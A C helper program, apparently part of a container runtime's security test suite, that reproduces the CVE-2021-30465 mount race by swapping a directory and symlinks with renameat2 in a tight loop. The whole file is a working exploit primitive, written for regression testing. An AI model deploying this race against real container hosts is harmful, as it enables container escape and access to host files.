/*
 * swapper: the attacker of tests/security/test_mount_race.py, run inside a
 * container that shares its rootfs directory with containers being started.
 *
 *   swapper DIR NAME TARGET...
 *
 * In DIR, NAME is a directory; for each TARGET a symlink NAME.<i> -> TARGET
 * is made, then NAME and the symlinks trade places with
 * renameat2(RENAME_EXCHANGE) in a tight loop, until the process is killed:
 * at any moment NAME is the directory or one of the symlinks (the
 * CVE-2021-30465 swap, atomic, thousands of times a second).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
    char alt[64][256];
    int n = argc - 3;
    if (argc < 4 || n > 64 || chdir(argv[1]) < 0)
        return 2;
    mkdir(argv[2], 0755);
    for (int i = 0; i < n; i++) {
        snprintf(alt[i], sizeof alt[i], "%s.%d", argv[2], i);
        unlink(alt[i]);
        if (symlink(argv[3 + i], alt[i]) < 0)
            return 3;
    }
    for (;;) {
        for (int i = 0; i < n; i++) {
            syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, alt[i], RENAME_EXCHANGE);
            syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, alt[i], RENAME_EXCHANGE);
        }
    }
}
